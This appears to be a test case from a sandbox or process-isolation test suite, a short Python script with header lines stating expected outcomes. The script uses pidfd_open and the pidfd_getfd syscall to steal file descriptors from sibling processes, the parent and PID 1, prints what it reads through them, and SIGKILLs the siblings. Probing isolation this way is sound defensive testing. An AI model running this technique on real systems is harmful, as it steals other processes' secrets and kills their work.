# The same by descriptors of processes, and the descriptors of others through them.
# status: exception ok timeout
# limits: seconds=1
# seen: siblings, secrets
# bare: siblings
import contextlib
import ctypes
import json
import os
import signal

world = json.loads(input())
libc = ctypes.CDLL(None)
for pid in [*world["siblings"], os.getppid(), 1]:
    with contextlib.suppress(OSError):
        handle = os.pidfd_open(pid)
        for descriptor in range(64):
            stolen = libc.syscall(438, handle, descriptor, 0)
            if stolen >= 0:
                with contextlib.suppress(OSError):
                    print(os.pread(stolen, 4096, 0))
        if pid in world["siblings"]:
            signal.pidfd_send_signal(handle, signal.SIGKILL)
